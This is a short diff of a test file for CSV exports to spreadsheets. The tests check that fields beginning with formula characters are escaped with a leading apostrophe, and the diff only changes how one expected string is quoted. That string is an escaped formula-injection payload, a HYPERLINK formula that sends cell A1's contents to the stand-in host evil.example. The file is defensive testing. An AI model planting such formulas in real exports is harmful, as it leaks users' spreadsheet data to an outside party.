@@ -41,7 +41,7 @@ describe("CSV exports for spreadsheets", () => {
     const lines = text.split("\n");
     const rawFields = rawCsvFields(text);
     for (const field of rawFields) if (field !== "-0.5") expect(field, JSON.stringify(field)).not.toMatch(/^[=+\-@\t\r]/);
-    expect(rawFields).toContain("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    expect(rawFields).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
     expect(rawFields).toContain("'-2+3");
     expect(rawFields).toContain("'''+two quotes");
     expect(rawFields).toContain("'just an apostrophe"); // not a formula: left alone
